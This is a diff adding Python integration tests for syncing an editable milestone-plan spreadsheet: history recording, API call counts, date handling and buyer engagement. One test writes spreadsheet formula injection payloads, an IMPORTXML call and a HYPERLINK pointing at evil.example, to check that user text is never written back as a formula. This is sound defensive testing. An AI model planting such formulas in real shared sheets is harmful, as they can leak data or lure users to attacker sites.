@@ -1,0 +1,143 @@
+"""Syncing a MAP after people edit it: what they see change, what is recorded, and the
+calls it takes."""
+
+from __future__ import annotations
+
+from service.services.coalesce import sync_coalesced
+from tests.integration.services.conftest import BUYER, World
+from tests.integration.services.sheet_view import (
+    cell_note,
+    header_value,
+    milestone_rows,
+    row_number,
+    tab_cells,
+)
+
+STATUS, DUE, NOTES, TITLE = "G", "F", "I", "B"
+
+
+def synced(world: World, spreadsheet_id: str) -> None:
+    sync_coalesced(world.backend, spreadsheet_id)
+
+
+def test_a_buyer_marking_a_step_done_changes_its_health_and_is_recorded(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    row = row_number(world.backend_emulator_state, sid, "m1")
+    world.edit(sid, f"Plan!{STATUS}{row}", "✅ Done")
+    synced(world, sid)
+    rows = milestone_rows(world.backend_emulator_state, sid)
+    assert rows["m1"]["Health"] == "Done"
+    history = tab_cells(world.backend_emulator_state, sid, "History")
+    texts = [[c.get("formattedValue", "") for c in r] for r in history[1:]]
+    assert any(t[3] == "Status" and t[4] == "Not started" and t[5] == "Done" for t in texts), texts
+    events = world.store.history(sid)
+    assert [(e.milestone_id, e.field, e.new) for e in events] == [("m1", "status", "Done")]
+
+
+def test_a_sync_with_nothing_changed_reads_once_and_writes_nothing(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    world.reset_counters()
+    synced(world, sid)
+    counts = world.counters(sid)
+    assert counts.get("sheets.spreadsheets.get") == 1
+    assert "sheets.spreadsheets.batchUpdate" not in counts
+
+
+def test_a_sync_after_an_edit_reads_once_and_writes_once(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    world.edit(
+        sid, f"Plan!{STATUS}{row_number(world.backend_emulator_state, sid, 'm2')}", "In progress"
+    )
+    world.reset_counters()
+    synced(world, sid)
+    counts = world.counters(sid)
+    assert counts.get("sheets.spreadsheets.get") == 1
+    assert counts.get("sheets.spreadsheets.batchUpdate") == 1
+
+
+def test_a_due_date_typed_as_text_pins_the_milestone(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    row = row_number(world.backend_emulator_state, sid, "m2")
+    world.edit(sid, f"Plan!{DUE}{row}", "Feb 1, 2027")
+    synced(world, sid)
+    assert milestone_rows(world.backend_emulator_state, sid)["m2"]["Target date"] == "Feb 1, 2027"
+
+
+def test_a_cell_that_cannot_be_read_keeps_its_value_gets_a_note_and_a_risk(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    row = row_number(world.backend_emulator_state, sid, "m3")
+    world.edit(sid, f"Plan!{DUE}{row}", "next tuesday-ish")
+    synced(world, sid)
+    rows = milestone_rows(world.backend_emulator_state, sid)
+    assert rows["m3"]["Due"] == "next tuesday-ish"
+    assert "could not read" in cell_note(world.backend_emulator_state, sid, row, 6)
+    assert "could not be read" in rows["m3"]["Risk"]
+    # Fixing the cell clears the note and the risk.
+    world.edit(sid, f"Plan!{DUE}{row}", "2027-02-01")
+    synced(world, sid)
+    assert cell_note(world.backend_emulator_state, sid, row, 6) == ""
+    assert (
+        "could not be read" not in milestone_rows(world.backend_emulator_state, sid)["m3"]["Risk"]
+    )
+
+
+def test_a_row_a_person_adds_gets_an_id_and_dates(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    last = row_number(world.backend_emulator_state, sid, "m6")
+    world.edit(sid, f"Plan!{TITLE}{last + 1}", "Celebrate with the team")
+    synced(world, sid)
+    rows = milestone_rows(world.backend_emulator_state, sid)
+    assert rows["m7"]["Milestone"] == "Celebrate with the team"
+    assert rows["m7"]["Target date"]
+    assert [(e.milestone_id, e.new) for e in world.store.history(sid)] == [("m7", "added")]
+
+
+def test_text_a_buyer_types_is_never_written_back_as_a_formula(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    row = row_number(world.backend_emulator_state, sid, "m1")
+    formula = '=IMPORTXML("http://evil.example/x", "//a")'
+    world.edit(sid, f"Plan!{NOTES}{row}", formula)
+    world.edit(sid, f"Plan!{TITLE}{row}", '=HYPERLINK("http://evil.example", "Pricing")')
+    synced(world, sid)
+    history = tab_cells(world.backend_emulator_state, sid, "History")
+    written = [c for r in history[1:] for c in r]
+    assert any(c.get("userEnteredValue", {}).get("stringValue") == formula for c in written)
+    assert not any("formulaValue" in c.get("userEnteredValue", {}) for c in written)
+    plan = tab_cells(world.backend_emulator_state, sid, "Plan")
+    computed_cells = [c for r in plan for c in r[9:]] + [r[2] for r in plan[:11] if len(r) > 2]
+    assert not any("formulaValue" in c.get("userEnteredValue", {}) for c in computed_cells)
+
+
+def test_moving_go_live_twice_without_a_reason_flags_the_close_date(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    world.edit(sid, "Plan!C4", "2027-04-15")
+    synced(world, sid)
+    world.edit(sid, "Plan!C4", "2027-04-30")
+    synced(world, sid)
+    assert "moved" in header_value(world.backend_emulator_state, sid, "Top risks")
+    record = world.store.get_map(sid)
+    assert record is not None and "CLOSE_DATE_MOVED" in [r["code"] for r in record.top_risks] + [
+        r["code"] for r in record.top_risks
+    ]
+
+
+def test_buyer_edits_count_as_buyer_engagement(world: World) -> None:
+    sid = world.provision().spreadsheet_id
+    synced(world, sid)
+    world.edit(
+        sid,
+        f"Plan!{STATUS}{row_number(world.backend_emulator_state, sid, 'm1')}",
+        "Done",
+        user=BUYER,
+    )
+    synced(world, sid)
+    record = world.store.get_map(sid)
+    assert record is not None and record.last_buyer_edit_on == world.clock.now.date()
